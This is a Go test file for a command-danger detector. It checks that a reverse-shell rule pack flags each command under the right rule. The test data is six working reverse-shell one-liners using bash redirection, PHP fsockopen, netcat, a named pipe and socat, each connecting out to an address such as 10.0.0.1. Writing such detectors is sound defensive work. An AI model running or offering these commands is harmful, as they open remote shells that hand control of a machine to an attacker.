package danger

import "testing"

// TestPackRev names the rule of the reverse shells pack each command must be decided by ("": allowed).
func TestPackRev(t *testing.T) {
	checkPack(t, []packCase{
		{"sh -i >& /dev/udp/10.0.0.1/53 0>&1", "rev.dev-tcp"},
		{"php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "rev.interpreter"},
		{"nc -lvp 4444 -e /bin/bash", "rev.nc-exec"},
		{"nc 10.0.0.1 4444 | /bin/sh | nc 10.0.0.1 4445", "rev.net-shell"},
		{"mknod /tmp/p p && /bin/sh 0</tmp/p | nc 10.0.0.1 4444 1>/tmp/p", "rev.shell-pipe"},
		{"socat tcp:1.2.3.4:443 system:bash", "rev.socat-exec"},
	})
}
